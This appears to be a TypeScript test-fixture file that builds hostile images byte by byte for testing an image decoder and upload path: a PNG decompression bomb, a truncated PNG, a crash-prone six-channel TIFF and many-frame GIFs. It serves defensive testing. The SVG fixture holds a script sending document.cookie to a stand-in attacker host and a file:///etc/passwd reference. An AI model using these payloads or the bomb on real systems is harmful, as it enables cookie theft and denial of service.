/**
 * Hostile image files, built byte by byte in code (nothing downloaded, nothing checked in):
 * a PNG decompression bomb, a truncated PNG, an SVG with a script, a 6-channel TIFF, and GIFs
 * with many frames. Tests feed them to the decoder, the upload route and the CLI.
 */
import { crc32, deflateRawSync, constants as zc } from 'node:zlib';

function u32be(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const t = Buffer.from(type, 'latin1');
  return Buffer.concat([u32be(data.length), t, data, u32be(crc32(Buffer.concat([t, data])))]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** Adler-32 of `n` zero bytes (a stays 1, b grows by 1 per byte). */
function adler32OfZeros(n: number): number {
  const MOD = 65521;
  const b = n % MOD;
  return ((b << 16) | 1) >>> 0;
}

/**
 * A decompression bomb: a valid `width`×`height` 8-bit RGB PNG of black pixels whose IDAT is a
 * zlib stream of full-flushed copies of one compressed row, so 20000×20000 (1.2 GB of pixels)
 * fits in about 1.5 MB and is built without ever holding the pixels.
 */
export function pngBomb(width = 20_000, height = 20_000): Buffer {
  const rowBytes = 1 + width * 3; // filter byte 0 + RGB
  // A full flush ends byte-aligned with no back-references, so the segment can be repeated.
  const row = deflateRawSync(Buffer.alloc(rowBytes), { level: 9, finishFlush: zc.Z_FULL_FLUSH });
  const parts: Buffer[] = [Buffer.from([0x78, 0xda])];
  for (let y = 0; y < height; y++) parts.push(row);
  parts.push(Buffer.from([0x03, 0x00])); // a final, empty fixed-Huffman block
  parts.push(u32be(adler32OfZeros(rowBytes * height)));
  const ihdr = Buffer.concat([u32be(width), u32be(height), Buffer.from([8, 2, 0, 0, 0])]);
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', Buffer.concat(parts)), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A small valid RGB PNG of one colour, built by hand (no sharp involved). */
export function solidPng(width: number, height: number, rgb: [number, number, number] = [200, 30, 30]): Buffer {
  const raw = Buffer.alloc((1 + width * 3) * height);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) raw.set(rgb, y * (1 + width * 3) + 1 + x * 3);
  }
  // Noise-free pixels would compress to almost nothing; the truncation test wants real IDAT bytes.
  for (let i = 0; i < raw.length; i += 7) if (i % (1 + width * 3) !== 0) raw[i] = (raw[i]! + (i * 31) % 17) & 0xff;
  const zlib = Buffer.concat([Buffer.from([0x78, 0x9c]), deflateRawSync(raw), u32be(adler32(raw))]);
  const ihdr = Buffer.concat([u32be(width), u32be(height), Buffer.from([8, 2, 0, 0, 0])]);
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', zlib), pngChunk('IEND', Buffer.alloc(0))]);
}

function adler32(buf: Buffer): number {
  let a = 1, b = 0;
  for (let i = 0; i < buf.length; i++) {
    a = (a + buf[i]!) % 65521;
    b = (b + a) % 65521;
  }
  return ((b << 16) | a) >>> 0;
}

/** A PNG cut off partway through its image data. */
export function truncatedPng(): Buffer {
  const whole = solidPng(256, 256);
  return whole.subarray(0, Math.floor(whole.length * 0.6));
}

/** An SVG document that carries a script (and an external reference for good measure). */
export function svgWithScript(): Buffer {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">' +
    '<script type="text/javascript">fetch("https://attacker.invalid/?c=" + document.cookie)</script>' +
    '<image xlink:href="file:///etc/passwd" width="64" height="64"/><rect width="64" height="64" fill="red"/></svg>',
  );
}

/**
 * A little-endian baseline TIFF with 6 samples per pixel (RGB + 3 extra samples), uncompressed,
 * one strip: the shape of file that has crashed image libraries.
 */
export function sixChannelTiff(width = 32, height = 32): Buffer {
  const spp = 6;
  const pixels = Buffer.alloc(width * height * spp, 0x80);
  const entries: [tag: number, type: number, count: number, value: number | Buffer][] = [];
  const SHORT = 3, LONG = 4;
  const bits = Buffer.alloc(spp * 2);
  for (let i = 0; i < spp; i++) bits.writeUInt16LE(8, i * 2);
  const extra = Buffer.alloc((spp - 3) * 2); // ExtraSamples: 0 = unspecified
  entries.push(
    [256, LONG, 1, width], // ImageWidth
    [257, LONG, 1, height], // ImageLength
    [258, SHORT, spp, bits], // BitsPerSample
    [259, SHORT, 1, 1], // Compression: none
    [262, SHORT, 1, 2], // Photometric: RGB
    [273, LONG, 1, 0], // StripOffsets (patched below)
    [277, SHORT, 1, spp], // SamplesPerPixel
    [278, LONG, 1, height], // RowsPerStrip
    [279, LONG, 1, pixels.length], // StripByteCounts
    [284, SHORT, 1, 1], // PlanarConfiguration: chunky
    [338, SHORT, spp - 3, extra], // ExtraSamples
  );
  const ifdOffset = 8;
  const ifdSize = 2 + entries.length * 12 + 4;
  let dataOffset = ifdOffset + ifdSize;
  const blobs: Buffer[] = [];
  const ifd = Buffer.alloc(ifdSize);
  ifd.writeUInt16LE(entries.length, 0);
  const blobOffsets: number[] = [];
  for (const [, , , v] of entries) {
    if (Buffer.isBuffer(v) && v.length > 4) {
      blobOffsets.push(dataOffset);
      blobs.push(v);
      dataOffset += v.length;
    } else blobOffsets.push(-1);
  }
  const stripOffset = dataOffset;
  entries.forEach(([tag, type, count, value], i) => {
    const at = 2 + i * 12;
    ifd.writeUInt16LE(tag, at);
    ifd.writeUInt16LE(type, at + 2);
    ifd.writeUInt32LE(count, at + 4);
    if (tag === 273) ifd.writeUInt32LE(stripOffset, at + 8);
    else if (Buffer.isBuffer(value)) {
      if (blobOffsets[i]! >= 0) ifd.writeUInt32LE(blobOffsets[i]!, at + 8);
      else value.copy(ifd, at + 8);
    } else if (type === SHORT) ifd.writeUInt16LE(value, at + 8);
    else ifd.writeUInt32LE(value, at + 8);
  });
  ifd.writeUInt32LE(0, ifdSize - 4); // no next IFD
  const header = Buffer.from([0x49, 0x49, 0x2a, 0x00, ifdOffset, 0, 0, 0]);
  return Buffer.concat([header, ifd, ...blobs, pixels]);
}

/**
 * GIF LZW for 8-bit indices, without a dictionary: a clear code every 254 literals keeps the
 * code width at 9 bits. Valid for any decoder, just not small.
 */
function lzwLiterals(indices: Uint8Array): Buffer {
  const CLEAR = 256, EOI = 257, WIDTH = 9;
  const out: number[] = [];
  let acc = 0, nbits = 0;
  const put = (code: number) => {
    acc |= code << nbits;
    nbits += WIDTH;
    while (nbits >= 8) {
      out.push(acc & 0xff);
      acc >>>= 8;
      nbits -= 8;
    }
  };
  put(CLEAR);
  for (let i = 0; i < indices.length; i++) {
    if (i > 0 && i % 254 === 0) put(CLEAR);
    put(indices[i]!);
  }
  put(EOI);
  if (nbits > 0) out.push(acc & 0xff);
  // Sub-blocks of at most 255 bytes, then a zero-length terminator.
  const blocks: number[] = [8]; // LZW minimum code size
  for (let i = 0; i < out.length; i += 255) {
    const n = Math.min(255, out.length - i);
    blocks.push(n, ...out.slice(i, i + n));
  }
  blocks.push(0);
  return Buffer.from(blocks);
}

/**
 * An animated GIF89a of `frames` frames, each `size`×`size`, frame k filled with palette entry
 * `k % 4` (red, green, blue, white): decoding the first frame only must give red.
 */
export function animatedGif(frames: number, size = 48): Buffer {
  const palette = Buffer.alloc(256 * 3);
  palette.set([255, 0, 0], 0);
  palette.set([0, 255, 0], 3);
  palette.set([0, 0, 255], 6);
  palette.set([255, 255, 255], 9);
  const header = Buffer.alloc(13);
  header.write('GIF89a', 0, 'latin1');
  header.writeUInt16LE(size, 6);
  header.writeUInt16LE(size, 8);
  header[10] = 0xf7; // global colour table, 8 bits, 256 entries
  const loop = Buffer.from([0x21, 0xff, 0x0b, ...Buffer.from('NETSCAPE2.0', 'latin1'), 0x03, 0x01, 0x00, 0x00, 0x00]);
  const frameData = [0, 1, 2, 3].map((c) => lzwLiterals(new Uint8Array(size * size).fill(c)));
  const parts: Buffer[] = [header, palette, loop];
  for (let k = 0; k < frames; k++) {
    parts.push(Buffer.from([0x21, 0xf9, 0x04, 0x00, 0x02, 0x00, 0x00, 0x00])); // 20 ms per frame
    const desc = Buffer.alloc(10);
    desc[0] = 0x2c;
    desc.writeUInt16LE(size, 5);
    desc.writeUInt16LE(size, 7);
    parts.push(desc, frameData[k % 4]!);
  }
  parts.push(Buffer.from([0x3b]));
  return Buffer.concat(parts);
}
